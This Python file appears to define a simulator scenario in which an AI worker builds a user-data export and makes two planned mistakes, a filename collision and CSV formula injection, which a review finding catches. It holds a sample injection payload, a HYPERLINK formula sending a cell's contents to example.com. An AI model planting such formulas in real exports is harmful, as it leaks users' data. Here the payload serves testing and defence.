"""The scenario `plan`: one task with a plan of seven phases, and what goes wrong on the way.

In phase 3 the worker gives two sessions the same file; its own tests don't show that, the service's verification does.
In phase 5 it lets titles be run as formulas; the review finds it. Both are repaired by a run that knows the findings
only.
"""

from types import MappingProxyType

from bot.simulator.demo.scenario import Mistake, Scenario, read_task, read_text

_FORMULA = '=HYPERLINK("https://example.com/?"&A2)'
_SHOW = 'import sys; from tests.test_export_csv import CsvTest; print(CsvTest().rows(sys.argv[1])[0]["title"])'
EXPORT = read_task(
    "export",
    "Let users download their data",
    description=(
        "Add a page “Your data” with a button that downloads a ZIP archive of all the user's sessions: a text file for"
        " each session, everything as JSON, and a table of the sessions as CSV. Nothing of other users, no passwords,"
        " no tokens. It must work for a user who studied every day for ten years."
    ),
    scope="Reading, the three forms, the archive, the page, tests and a page of documentation. No import, no mail.",
    impact="Medium: a new package; pages can answer with bytes from now on (youlab/web.py, youlab/app.py).",
    summary=(
        "Users download a copy of their data from the page “Your data”: every session as a text file, all of it as"
        " JSON, and a table for spreadsheet programs, in one archive that is made at once."
    ),
    left=frozenset({"python3 -m unittest tests.check_export"}),
    mistakes=MappingProxyType(
        {
            3: Mistake(
                repair=(
                    "The number of a session is a part of its file's name now, so that two sessions of one day with the"
                    " same title don't share a file; a test holds it."
                )
            ),
            5: Mistake(
                repair=(
                    "A title that a spreadsheet program would run as a formula has a ' before it now; a test holds it"
                    " for every sign."
                ),
                blockers=(
                    "youlab/export/as_csv.py:28: titles go into the table as they are, and Excel, LibreOffice and"
                    f" Google Sheets run a cell that begins with =, +, - or @ as a formula. A session called {_FORMULA}"
                    " sends the user's data to a stranger with one click. Put a ' before such text; a tab or a line"
                    " end in front must not hide it.",
                    "tests/test_export_csv.py: no test would notice that. Add one for every sign.",
                ),
                shown_by=f"python3 -c '{_SHOW}' '{_FORMULA}'",
            ),
        }
    ),
)

PLAN = Scenario(
    title="Download your data",
    spec=read_text("export", "spec.md"),
    summary="One task: the forms of the export, the archive and the page build upon each other and are small.",
    tasks=(EXPORT,),
)
